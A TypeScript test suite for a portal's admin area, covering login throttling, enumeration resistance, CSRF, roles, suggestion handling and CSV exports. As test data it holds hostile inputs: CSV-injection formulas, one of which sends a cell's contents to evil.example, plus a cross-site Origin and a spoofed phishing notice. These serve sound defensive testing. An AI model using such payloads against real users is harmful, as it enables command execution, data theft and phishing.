// The operators' area through app.inject with a real SQLite: sign-in, lock-out, CSRF, roles, every
// page, exports equal to the page, the suggestion workflow with email and retention, the audit log.
import { createHash } from 'node:crypto';
import net from 'node:net';
import { load } from 'cheerio';
import { parse as parseCsv } from 'csv-parse/sync';
import { SMTPServer } from 'smtp-server';
import t from 'tap';
import { hashPassword, MAX_DERIVING, MAX_WAITING, passwordChecks, spendLikeVerify, verifyPassword } from '../../publisher/admin/passwords.ts';
import { freshnessCsv } from '../../publisher/reports.ts';
import { makeMailer } from '../../cli/mail.ts';
import { Browser, PASSWORD } from '../helpers/admin-browser.ts';
import { BROWSER, makeApp, type TestApp } from '../helpers/app.ts';


async function withUsers(options: Parameters<typeof makeApp>[0] = {}): Promise<TestApp> {
  const bed = await makeApp(options);
  const hash = await hashPassword(PASSWORD);
  bed.store.users.add('amina', 'admin', hash, new Date().toISOString());
  bed.store.users.add('karim', 'editor', hash, new Date().toISOString());
  return bed;
}


t.test('with no operator, /admin says how to create one; no default password works', async (t) => {
  const bed = await makeApp();
  const browser = new Browser(bed);
  const page = await browser.get('/admin');
  t.equal(page.status, 200);
  t.match(page.$('pre').text(), /npx portal user add NAME/);
  for (const [name, password] of [['admin', 'admin'], ['admin', ''], ['root', 'password']]) {
    const response = await browser.login(name!, password);
    t.equal(response.status, 401);
  }
  await bed.close();
});

t.test('an anonymous visitor is sent to the login form (name and password fields)', async (t) => {
  const bed = await withUsers();
  const browser = new Browser(bed);
  const entry = await bed.app.inject({ url: '/admin' });
  t.equal(entry.statusCode, 302);
  t.equal(entry.headers.location, '/admin/login');
  const login = await browser.get('/admin/login');
  t.equal(login.$('form input[type=text][name=name]').length, 1);
  t.equal(login.$('form input[type=password][name=password]').length, 1);
  for (const url of ['/admin/freshness', '/admin/freshness.csv', '/admin/suggestions', '/admin/partners/alpha', '/admin/audit', '/admin/test-source', '/admin/indicators', '/admin/config']) {
    const response = await bed.app.inject({ url });
    t.equal(response.statusCode, 302, url);
    t.match(response.headers.location, /^\/admin\/login/);
  }
  await bed.close();
});

t.test('sign-in: wrong password refused, right one gives a protected, fresh session', async (t) => {
  const bed = await withUsers();
  const browser = new Browser(bed);
  t.equal((await browser.login('amina', 'wrong password!')).status, 401);
  const before = browser.cookie;
  const ok = await browser.login('amina');
  t.equal(ok.status, 303);
  t.equal(ok.headers.location, '/admin');
  const setCookie = [ok.headers['set-cookie']].flat().find((c) => String(c).startsWith('portal_session='))!;
  t.match(setCookie, /HttpOnly/);
  t.match(setCookie, /SameSite=Strict/);
  t.match(setCookie, /Path=\/admin/);
  t.notMatch(setCookie, /Secure/, 'not Secure over plain http');
  t.not(browser.cookie, before);
  const fresh = await browser.get('/admin/freshness');
  t.equal(fresh.status, 200);
  t.match(fresh.$('.admin-user').text(), /amina/);
  // A second login rotates the token: the first session no longer works.
  const first = browser.cookie;
  await browser.login('amina');
  t.not(browser.cookie, first);
  const stale = await bed.app.inject({ url: '/admin/freshness', headers: { cookie: first } });
  t.equal(stale.statusCode, 302, 'the previous session token is gone');
  // Logout needs its CSRF token and ends the session.
  const token = await browser.token('/admin/freshness');
  await browser.post('/admin/logout', { csrf: token });
  t.equal((await browser.get('/admin/freshness')).status, 302);
  await bed.close();
});

/** Operators with a cheap password hash (the throttle is under test, not scrypt), and a clock and
 * sleep the test drives: the per-name delays asked for are recorded instead of waited. */
async function guessingBed() {
  let now = new Date('2026-03-01T10:00:00Z');
  const delays: number[] = [];
  const bed = await makeApp({
    now: () => now,
    sleep: async (ms) => {
      delays.push(ms);
    },
  });
  const hash = await hashPassword(PASSWORD, 2 ** 10);
  bed.store.users.add('amina', 'admin', hash, now.toISOString());
  bed.store.users.add('karim', 'editor', hash, now.toISOString());
  return { bed, delays, advance: (ms: number) => (now = new Date(now.getTime() + ms)) };
}

t.test('guesses sent together are counted as they arrive: ten checked, the rest refused before any password check', async (t) => {
  const { bed } = await guessingBed();
  const guesser = new Browser(bed, '10.9.9.9');
  const form = await guesser.get('/admin/login');
  const csrf = form.$('input[name=csrf]').val() as string;
  const answers = await Promise.all(
    Array.from({ length: 30 }, (_, i) =>
      bed.app.inject({
        method: 'POST',
        url: '/admin/login',
        headers: { ...BROWSER, cookie: guesser.cookie, 'content-type': 'application/x-www-form-urlencoded' },
        payload: new URLSearchParams({ csrf, name: 'amina', password: `guess ${i}`, next: '' }).toString(),
        remoteAddress: '10.9.9.9',
      }),
    ),
  );
  const statuses = answers.map((a) => a.statusCode).sort();
  t.same(statuses, [...Array(10).fill(401), ...Array(20).fill(429)], 'ten passwords checked, not thirty');
  await bed.close();
});

t.test('password checks run two at a time; past 32 waiting they are refused (503), not queued', async (t) => {
  const hash = await hashPassword(PASSWORD, 2 ** 10);
  const checks = Array.from({ length: 40 }, (_, i) => verifyPassword(i === 0 ? PASSWORD : `wrong ${i}`, hash).then((ok) => (ok ? 'ok' : 'wrong'), (error: Error) => error.constructor.name));
  t.same(passwordChecks(), { deriving: MAX_DERIVING, waiting: MAX_WAITING }, 'two deriving, 32 waiting');
  const outcomes = await Promise.all(checks);
  t.equal(outcomes[0], 'ok');
  t.same(outcomes.slice(1, MAX_DERIVING + MAX_WAITING), Array(MAX_DERIVING + MAX_WAITING - 1).fill('wrong'), 'the ones that waited were checked');
  t.same(outcomes.slice(MAX_DERIVING + MAX_WAITING), Array(40 - MAX_DERIVING - MAX_WAITING).fill('PasswordChecksBusy'), 'the rest refused at once');
  t.same(passwordChecks(), { deriving: 0, waiting: 0 }, 'every turn given back');
});

t.test('sign-ins refused because the checks were busy (503) do not count against the address', async (t) => {
  const { bed } = await guessingBed();
  const operator = new Browser(bed, '10.12.12.12');
  const form = await operator.get('/admin/login');
  const csrf = form.$('input[name=csrf]').val() as string;
  const login = (password: string) =>
    bed.app.inject({
      method: 'POST',
      url: '/admin/login',
      headers: { ...BROWSER, cookie: operator.cookie, 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams({ csrf, name: 'amina', password, next: '' }).toString(),
      remoteAddress: '10.12.12.12',
    });
  // Someone else keeps every turn taken (slow derivations), and the operator tries twelve times meanwhile.
  const slow = await hashPassword('another password entirely', 2 ** 14);
  const busy = Array.from({ length: MAX_DERIVING + MAX_WAITING }, () => verifyPassword('guess', slow).catch(() => false));
  const tries = await Promise.all(Array.from({ length: 12 }, () => login(PASSWORD)));
  t.same([...new Set(tries.map((r) => r.statusCode))], [503], 'every try refused while the checks are busy');
  await Promise.all(busy);
  t.equal((await login(PASSWORD)).statusCode, 303, 'then the operator signs in: the twelve were not counted as failures');
  await bed.close();
});

t.test("an unknown name's stand-in check is not left refused when it was first asked during a burst", async (t) => {
  const slow = await hashPassword('another password entirely', 2 ** 14);
  // A cost no test used yet: its stand-in hash is made below, while every turn is taken.
  const like = (await hashPassword('x', 2 ** 12)).replace(/^scrypt\$4096\$/, 'scrypt$2048$');
  const busy = Array.from({ length: MAX_DERIVING + MAX_WAITING }, () => verifyPassword('guess', slow).catch(() => false));
  await spendLikeVerify('guess', like).catch(() => false);
  await Promise.all(busy);
  t.equal(await spendLikeVerify('guess', like), false, 'once the burst is over, an unknown name is answered as a wrong password');
});

t.test('a guesser from one address is throttled whatever the name; the operator elsewhere is not', async (t) => {
  const { bed, delays, advance } = await guessingBed();
  const guesser = new Browser(bed, '10.7.7.7');
  const statuses: number[] = [];
  for (let i = 0; i < 10; i++) statuses.push((await guesser.login('amina', `wrong ${i}`)).status);
  t.same(statuses, Array(10).fill(401), 'ten failures are answered');
  const throttled = await guesser.login('amina');
  t.equal(throttled.status, 429, 'then this address waits, even with the right password');
  t.match(throttled.$('[role=alert]').text(), /محاولات فاشلة كثيرة من اتصالك/, 'told in the default language (ar)');
  t.notMatch(throttled.$('[role=alert]').text(), /[0-9٠-٩]/, 'without saying when to strike next');
  t.equal((await guesser.login('nobody')).status, 429, 'the same for a name that does not exist');
  // The operator, from another address, signs in with the right password.
  const operator = new Browser(bed, '10.8.8.8');
  t.equal((await operator.login('amina')).status, 303, 'the real operator gets through');
  t.equal(delays.at(-1), 3000, 'after a short wait (the name had ten recent failures)');
  t.equal(bed.store.users.get('amina')!.locked_until, null, 'the account is never locked');
  // The guesser's address leaks: one attempt every six minutes.
  advance(6 * 60_000 + 1000);
  t.equal((await guesser.login('amina', 'wrong again')).status, 401);
  t.equal((await guesser.login('amina', 'and again')).status, 429);
  advance(60 * 60_000);
  t.equal((await guesser.login('amina')).status, 303, 'an hour later the address is forgiven');
  await bed.close();
});

t.test('an attacker rotating addresses cannot lock a known operator out', async (t) => {
  const { bed, delays } = await guessingBed();
  const statuses = new Map<number, number>();
  for (let i = 0; i < 30; i++) {
    const attacker = new Browser(bed, `10.60.${i >> 8}.${i & 255}`);
    const status = (await attacker.login('amina', `guess number ${i}`)).status;
    statuses.set(status, (statuses.get(status) ?? 0) + 1);
  }
  t.same([...statuses], [[401, 30]], 'every guess is answered "wrong", none locks anything');
  t.ok(Math.max(...delays) <= 3000, `each attempt on the name waits at most 3 s (${delays.length} waits, the longest ${Math.max(...delays)} ms)`);
  t.same(delays.slice(0, 5), [200, 400, 800, 1600, 3000], 'the wait grows from the sixth failure and stops at 3 s');
  const operator = new Browser(bed, '10.8.8.8');
  const signedIn = await operator.login('amina');
  t.equal(signedIn.status, 303, 'the right password gets through');
  t.equal((await operator.get('/admin/freshness')).status, 200);
  t.equal(bed.store.users.get('amina')!.failed_logins, 0, 'the count of failures starts again after a sign-in');
  const audit = bed.store.users.auditLog(100).entries.filter((e) => e.action === 'login_failed');
  t.equal(audit.length, 11, 'failures are audited one by one, then at each power of two: the log cannot be flooded');
  await bed.close();
});

t.test('a name that exists and one that does not get the same answers', async (t) => {
  const { bed, delays } = await guessingBed();
  const answers = async (name: string, block: number) => {
    const seen: string[] = [];
    const before = delays.length;
    for (let i = 0; i < 8; i++) {
      const browser = new Browser(bed, `10.70.${block}.${i}`);
      const response = await browser.login(name, `wrong ${i}`);
      const body = response.body.replace(/name="csrf" value="[^"]*"/g, 'name="csrf" value=""').replaceAll(`value="${name}"`, 'value="NAME"');
      seen.push(`${response.status} ${createHash('sha256').update(body).digest('hex')} ${JSON.stringify(response.headers['set-cookie'] ?? null).replace(/portal_login=[\w-]+/, 'portal_login=X')}`);
    }
    const address = new Browser(bed, `10.71.${block}.1`);
    for (let i = 0; i < 10; i++) await address.login(name, 'wrong');
    const throttled = await address.login(name, 'wrong');
    seen.push(`${throttled.status} ${throttled.body.replace(/name="csrf" value="[^"]*"/g, '').replaceAll(`value="${name}"`, 'value="NAME"').length}`);
    return { seen, delays: delays.slice(before, before + 8) };
  };
  const known = await answers('amina', 1);
  const unknown = await answers('amira', 2);
  t.same(unknown.seen, known.seen, 'same statuses, same pages, same cookies');
  t.same(unknown.delays, known.delays, 'same waits');
  t.match(known.seen[0], /^401 /);
  t.match(known.seen.at(-1), /^429 /);
  await bed.close();
});

t.test('CSRF: a form without the session token changes nothing', async (t) => {
  const bed = await withUsers();
  const browser = new Browser(bed);
  await browser.login('amina');
  const id = bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: 'Bonjour', name: null, email: null }, new Date().toISOString());
  for (const csrf of ['', 'x.y.z']) {
    const response = await browser.post(`/admin/suggestions/${id}`, { csrf, action: 'reject' });
    t.equal(response.status, 403);
  }
  // A token of another session is refused too.
  const other = new Browser(bed, '10.6.6.6');
  await other.login('karim');
  const foreign = await other.token();
  t.equal((await browser.post(`/admin/suggestions/${id}`, { csrf: foreign, action: 'reject' })).status, 403);
  t.equal(bed.store.suggestions.get(id)!.status, 'new');
  const loginCsrf = await bed.app.inject({ method: 'POST', url: '/admin/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'name=amina&password=x' });
  t.equal(loginCsrf.statusCode, 403, 'the login form has a token too');
  await bed.close();
});

t.test('login CSRF: the form\'s token is bound to the browser, and another site\'s form is refused', async (t) => {
  const bed = await withUsers();
  // The attacker fetches a login form for himself, with his own pre-session cookie...
  const attacker = new Browser(bed, '10.40.0.1');
  const attackerForm = await attacker.get('/admin/login');
  const attackerToken = attackerForm.$('input[name=csrf]').val() as string;
  t.match(String(attackerForm.headers['set-cookie']), /portal_login=[\w-]+; Path=\/admin; SameSite=Strict; HttpOnly/, 'the form comes with a pre-session cookie');
  // ...and has the victim's browser post it with his own name and password (a hidden form).
  const victim = new Browser(bed, '10.40.0.2');
  await victim.get('/admin/login');
  const forged = await victim.post('/admin/login', { csrf: attackerToken, name: 'karim', password: PASSWORD, next: '' });
  t.equal(forged.status, 403, 'a token of another browser is refused');
  t.notMatch(victim.cookie, /portal_session=/, 'the victim is not signed in as the attacker');
  const cookieless = await bed.app.inject({
    method: 'POST',
    url: '/admin/login',
    headers: { ...BROWSER, 'content-type': 'application/x-www-form-urlencoded' },
    payload: new URLSearchParams({ csrf: attackerToken, name: 'karim', password: PASSWORD }).toString(),
  });
  t.equal(cookieless.statusCode, 403, 'a token without its cookie is refused');
  t.notOk(String(cookieless.headers['set-cookie'] ?? '').includes('portal_session='));
  // The Origin of another site is refused before anything else, even with a valid token and cookie.
  const form = await attacker.get('/admin/login');
  const crossSite = await bed.app.inject({
    method: 'POST',
    url: '/admin/login',
    headers: { ...BROWSER, cookie: attacker.cookie, origin: 'https://evil.example', 'content-type': 'application/x-www-form-urlencoded' },
    payload: new URLSearchParams({ csrf: form.$('input[name=csrf]').val() as string, name: 'karim', password: PASSWORD }).toString(),
    remoteAddress: '10.40.0.1',
  });
  t.equal(crossSite.statusCode, 403, 'a post from another site\'s page is refused');
  t.notOk(String(crossSite.headers['set-cookie'] ?? '').includes('portal_session='));
  // The real thing works, and the pre-session cookie is dropped once signed in.
  const signedIn = await attacker.login('karim');
  t.equal(signedIn.status, 303);
  t.match(String(signedIn.headers['set-cookie']), /portal_login=; Path=\/admin; SameSite=Strict; HttpOnly; Max-Age=0/);
  t.match(attacker.cookie, /portal_session=/);
  t.notMatch(attacker.cookie, /portal_login=/);
  await bed.close();
});

t.test('roles: an editor handles suggestions only', async (t) => {
  const bed = await withUsers();
  const editor = new Browser(bed);
  await editor.login('karim');
  t.equal((await editor.get('/admin')).headers.location, '/admin/suggestions');
  t.equal((await editor.get('/admin/suggestions')).status, 200);
  for (const url of ['/admin/freshness', '/admin/partners/alpha', '/admin/audit', '/admin/test-source', '/admin/indicators', '/admin/config']) {
    t.equal((await editor.get(url)).status, 403, url);
  }
  const token = await editor.token();
  t.equal((await editor.post('/admin/harvest', { csrf: token, scope: 'partner:alpha' })).status, 403);
  t.equal((await editor.get('/admin/suggestions.csv?contacts=1')).status, 403, 'no contact export for editors');
  t.equal((await editor.get('/admin/freshness.csv')).status, 200, 'the freshness export is for any signed-in operator');
  await bed.close();
});

t.test('every admin page answers for an administrator, in each language', async (t) => {
  const bed = await withUsers();
  const admin = new Browser(bed);
  await admin.login('amina');
  const id = bed.store.suggestions.add({ language: 'ar', pageRef: '/ar/', topic: 'content', message: 'اقتراح', name: 'ع', email: 'a@example.ma' }, new Date().toISOString());
  for (const lang of ['ar', 'fr', 'en']) {
    for (const url of ['/admin/freshness', '/admin/partners/alpha', '/admin/suggestions', `/admin/suggestions/${id}`, '/admin/test-source', '/admin/indicators', '/admin/audit', '/admin/config']) {
      const page = await admin.get(`${url}?lang=${lang}`);
      t.equal(page.status, 200, `${url} ${lang}`);
      t.equal(page.$('html').attr('lang'), lang);
      t.equal(page.headers['cache-control'], 'no-store');
    }
  }
  const partner = await admin.get('/admin/partners/alpha?lang=fr');
  t.equal(partner.$('svg.chart title').first().text(), 'Nouveaux documents par mois (12 derniers mois)');
  t.match(partner.$('.admin-source').first().text(), /alpha\/(news|reports)/);
  await bed.close();
});

t.test('the freshness exports carry the page\'s figures', async (t) => {
  const bed = await withUsers();
  const admin = new Browser(bed);
  await admin.login('amina');
  const page = await admin.get('/admin/freshness?lang=en');
  const csv = await admin.get('/admin/freshness.csv');
  const json = JSON.parse((await admin.get('/admin/freshness.json')).body);
  t.match(csv.headers['content-type'], /text\/csv/);
  const lines = parseCsv(csv.body, { bom: true }) as string[][];
  t.equal(lines.length, 1 + 3);
  t.equal(lines[0]![0], 'partner');
  t.same(
    lines.slice(1).map((l) => l[0]),
    json.partners.map((p: { partner: string }) => p.partner),
    'same partners, same order',
  );
  t.same(page.$('.freshness-table tbody th a').map((_, e) => page.$(e).attr('href')).get(), json.partners.map((p: { partner: string }) => `/admin/partners/${p.partner}`));
  t.equal(csv.body.replace(/^\ufeff/, ''), freshnessCsv({ ...json, generated_at: json.generated_at }), 'the CSV is the report');
  const alphaRow = lines.find((l) => l[0] === 'alpha')!;
  t.match(alphaRow.join(','), /,30,2025-06-01,overdue,/);
  await bed.close();
});

t.test('suggestions: examine, answer in the visitor\'s language, email, publish, export, purge, audit', async (t) => {
  const received: string[] = [];
  const smtp = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData(stream, _session, callback) {
      let data = '';
      stream.on('data', (chunk: Buffer) => (data += chunk.toString()));
      stream.on('end', () => {
        received.push(data);
        callback();
      });
    },
  });
  await new Promise<void>((resolve) => smtp.listen(0, '127.0.0.1', resolve));
  const port = (smtp.server.address() as { port: number }).port;
  const mailer = makeMailer({ host: '127.0.0.1', port, secure: false, from: 'portail@example.ma' });
  const bed = await withUsers({ mail: mailer });
  const admin = new Browser(bed);
  await admin.login('amina');
  const id = bed.store.suggestions.add({ language: 'ar', pageRef: '/ar/publications', topic: 'content', message: 'أين تقارير 2010؟', name: 'سعاد', email: 'souad@example.ma' }, new Date().toISOString());
  const list = await admin.get('/admin/suggestions?status=new');
  t.equal(list.$('tbody tr').length, 1);
  let token = await admin.token(`/admin/suggestions/${id}`);
  t.equal((await admin.post(`/admin/suggestions/${id}`, { csrf: token, action: 'examine' })).status, 303);
  t.equal(bed.store.suggestions.get(id)!.status, 'examined');
  const detail = await admin.get(`/admin/suggestions/${id}?lang=fr`);
  t.match(detail.$('label[for=answer]').text(), /Arabe/, 'the answer is asked in the visitor\'s language');
  t.equal(detail.$('#answer').attr('lang'), 'ar');
  token = detail.$('input[name=csrf]').first().val() as string;
  t.equal((await admin.post(`/admin/suggestions/${id}`, { csrf: token, action: 'answer', answer: 'التقارير متاحة في باب المنشورات.', publish: '1' })).status, 303);
  const answered = bed.store.suggestions.get(id)!;
  t.match(answered, { status: 'answered', published: true, answered_by: 'amina', answer: 'التقارير متاحة في باب المنشورات.' });
  t.ok(answered.emailed_at, 'emailed');
  t.equal(received.length, 1);
  t.match(received[0]!, /To: souad@example\.ma/);
  const publicPage = load((await bed.app.inject({ url: '/ar/suggestions', headers: BROWSER })).body);
  t.match(publicPage('.answer-card').text(), /التقارير متاحة/);
  token = await admin.token(`/admin/suggestions/${id}`);
  await admin.post(`/admin/suggestions/${id}`, { csrf: token, action: 'unpublish' });
  t.equal(bed.store.suggestions.get(id)!.published, false);
  // Exports: without contacts by default; with them only when an admin asks.
  const plain = await admin.get('/admin/suggestions.csv');
  t.notMatch(plain.body, /souad@example\.ma/);
  t.match(plain.body.split('\r\n')[0]!, /^\ufeff"id","created_at","language","topic","page_ref","status","message","answer","answered_at","published"$/);
  const withContacts = await admin.get('/admin/suggestions.csv?contacts=1');
  t.match(withContacts.body, /souad@example\.ma/);
  // Retention: contact details deleted once the period after the answer has passed.
  t.equal(bed.store.suggestions.purgeContacts(new Date(Date.now() - 86_400_000).toISOString(), new Date().toISOString()), 0, 'not yet');
  t.equal(bed.store.suggestions.purgeContacts(new Date(Date.now() + 1000).toISOString(), new Date().toISOString()), 1);
  t.match(bed.store.suggestions.get(id), { name: null, email: null });
  t.match((await admin.get(`/admin/suggestions/${id}?lang=fr`)).$('.item-facts').text(), /Coordonnées effacées/);
  // The audit log has every action.
  const actions = bed.store.users.auditLog(50).entries.map((e) => e.action);
  for (const action of ['login', 'suggestion_examine', 'suggestion_answer', 'suggestion_emailed', 'suggestion_unpublish', 'export_suggestions']) t.ok(actions.includes(action), action);
  const auditPage = await admin.get('/admin/audit?lang=en');
  t.match(auditPage.$('table').text(), /suggestion_answer/);
  await bed.close();
  await new Promise<void>((resolve) => smtp.close(() => resolve()));
});

t.test("a suggestion page's notice is one it knows (a failed email), never text from the address", async (t) => {
  // Nothing listens on the port: the email fails.
  const closed = await new Promise<number>((resolve) => {
    const probe = net.createServer().listen(0, '127.0.0.1', () => {
      const { port } = probe.address() as net.AddressInfo;
      probe.close(() => resolve(port));
    });
  });
  const bed = await withUsers({ mail: makeMailer({ host: '127.0.0.1', port: closed, secure: false, from: 'portail@example.ma' }) });
  const admin = new Browser(bed);
  await admin.login('amina');
  const id = bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: 'Où sont les rapports ?', name: null, email: 'visiteur@example.ma' }, new Date().toISOString());
  const token = await admin.token(`/admin/suggestions/${id}`);
  const answered = await admin.post(`/admin/suggestions/${id}`, { csrf: token, action: 'answer', answer: 'Dans les publications.' });
  t.equal(answered.headers.location, `/admin/suggestions/${id}?notice=email_failed`);
  const shown = await admin.get(`${answered.headers.location}&lang=fr`);
  t.match(shown.$('[role=alert]').text(), /le courriel n'a pas pu être envoyé ; l'erreur est dans le journal d'audit/);
  t.ok(bed.store.users.auditLog(20).entries.some((e) => e.action === 'suggestion_email_failed'), 'the error is in the audit log');
  const spoof = await admin.get(`/admin/suggestions/${id}?lang=fr&notice=${encodeURIComponent('Session expirée : reconnectez-vous sur http://evil.example/login')}`);
  t.equal(spoof.$('[role=alert]').length, 0, 'text in the address is not shown');
  t.notMatch(spoof.$('main').text(), /evil\.example/, 'nor anywhere on the page');
  await bed.close();
});

/** Every field of a CSV file is a quoted string followed by a comma or the end of its line. */
const ALL_QUOTED = /^(?:"(?:[^"]|"")*"(?:,|\r\n))*$/;

t.test('CSV exports: every field quoted, formulas neutralised (OWASP CSV injection)', async (t) => {
  const bed = await withUsers();
  const admin = new Browser(bed);
  await admin.login('amina');
  const hostile = [
    "=cmd|' /C calc'!A0",
    ';=cmd|\' /C calc\'!A0',
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\uff1d1+1',
    '=HYPERLINK("https://evil.example?"&A1;"Cliquez")',
    'Un message, avec "guillemets" ; et point-virgule',
  ];
  for (const [i, text] of hostile.entries()) {
    bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: text, name: `Nom ${i}`, email: null }, new Date(Date.UTC(2026, 0, 1 + i)).toISOString());
  }
  for (const url of ['/admin/suggestions.csv', '/admin/suggestions.csv?contacts=1', '/admin/freshness.csv']) {
    const body = (await admin.get(url)).body.replace(/^\ufeff/, '');
    t.match(body, ALL_QUOTED, `${url}: every field is quoted`);
    const cells = (parseCsv(body) as string[][]).flat();
    t.same(cells.filter((c) => /^[\s\u0000-\u001f]*[=+\-@\uff1d]/.test(c)), [], `${url}: no cell starts a formula`);
  }
  const rows = parseCsv((await admin.get('/admin/suggestions.csv?contacts=1')).body, { bom: true, columns: true }) as Array<Record<string, string>>;
  const byName = new Map(rows.map((r) => [r.name, r.message]));
  hostile.forEach((text, i) => {
    // A leading ";" is no formula: quoting keeps French Excel, which splits on ";", from splitting it.
    const expected = /^(?:;|Un message)/.test(text) ? text : `'${text}`;
    t.equal(byName.get(`Nom ${i}`), expected, `${JSON.stringify(text)} → ${JSON.stringify(expected)}`);
  });
  await bed.close();
});

t.test('one policy for contact details: administrators only, on the page and in the export', async (t) => {
  const bed = await withUsers();
  const id = bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: 'Merci pour le portail.', name: 'Souad Alaoui', email: 'souad@example.ma' }, new Date().toISOString());
  const editor = new Browser(bed, '10.41.0.1');
  await editor.login('karim');
  const seen = await editor.get(`/admin/suggestions/${id}?lang=fr`);
  t.equal(seen.status, 200);
  t.notMatch(seen.body, /Souad|souad@example\.ma/, 'an editor does not see the name or the email');
  t.match(seen.$('.item-facts').text(), /Visibles des administrateurs seulement/, 'but is told there are some');
  t.equal(seen.$('textarea[name=answer]').length, 1, 'and can still answer (the portal emails the answer)');
  t.equal((await editor.get('/admin/suggestions.csv?contacts=1')).status, 403, 'nor can an editor export them');
  t.notMatch((await editor.get('/admin/suggestions.csv')).body, /Souad|souad@/);
  t.equal((await editor.get('/admin/suggestions')).$('a[href="/admin/suggestions.csv?contacts=1"]').length, 0, 'no link to the contact export');
  const admin = new Browser(bed, '10.41.0.2');
  await admin.login('amina');
  const full = await admin.get(`/admin/suggestions/${id}?lang=fr`);
  t.match(full.$('.item-facts').text(), /Souad Alaoui/);
  t.match(full.$('.item-facts').text(), /souad@example\.ma/);
  t.match((await admin.get('/admin/suggestions.csv?contacts=1')).body, /souad@example\.ma/);
  await bed.close();
});

t.test('a failing mail server is reported, the answer is kept', async (t) => {
  const mailer = makeMailer({ host: '127.0.0.1', port: 9, secure: false, from: 'portail@example.ma' });
  const bed = await withUsers({ mail: mailer });
  const admin = new Browser(bed);
  await admin.login('amina');
  const id = bed.store.suggestions.add({ language: 'fr', pageRef: null, topic: null, message: 'Question', name: null, email: 'x@example.ma' }, new Date().toISOString());
  const token = await admin.token(`/admin/suggestions/${id}`);
  const response = await admin.post(`/admin/suggestions/${id}`, { csrf: token, action: 'answer', answer: 'Réponse.' });
  t.equal(response.status, 303);
  t.match(response.headers.location, /notice=/);
  t.equal(bed.store.suggestions.get(id)!.status, 'answered');
  t.equal(bed.store.suggestions.get(id)!.emailed_at, null);
  await bed.close();
});

t.test('the freshness report shows twelve months of history, rebuilt from the catalogue, with its table (issue 14)', async (t) => {
  // The seeded alpha (30 days) published on 2025-02-01, 2025-05-15 and 2025-06-01; gamma (90 days) nothing.
  const history = (await makeApp()).store.stats.freshnessHistory(new Date('2025-06-15T12:00:00Z'), 6);
  t.same(
    history.map((m) => `${m.day} ${m.up_to_date}/${m.committed}`),
    ['2025-01-31 0/2', '2025-02-28 1/2', '2025-03-31 0/2', '2025-04-30 0/2', '2025-05-31 1/2', '2025-06-15 1/2'],
  );
  const bed = await withUsers({ now: () => new Date('2025-06-15T12:00:00Z') });
  t.teardown(() => bed.close());
  const admin = new Browser(bed);
  await admin.login('amina');
  const page = await admin.get('/admin/freshness?lang=fr');
  t.equal(page.$('svg.chart g').length, 12, 'one bar a month, not a single day');
  t.equal(page.$('svg.chart text.label').first().text(), 'juillet 2024');
  const rows = page.$('.chart-pair table tbody tr').map((_, e) => page.$(e).find('th, td').map((_, c) => page.$(c).text()).get().join(' | ')).get();
  t.equal(rows.length, 12);
  t.match(rows.at(-1), /^juin 2025 \| 1 sur 2 \| 50\s%$/, "this month is today's report");
  t.equal(page.$('.chart-pair th[scope=col]').first().text(), 'Mois');
  // The partner page's monthly chart has its table too.
  const partner = await admin.get('/admin/partners/alpha?lang=ar');
  t.equal(partner.$('.chart-pair table tbody tr').length, 12);
});
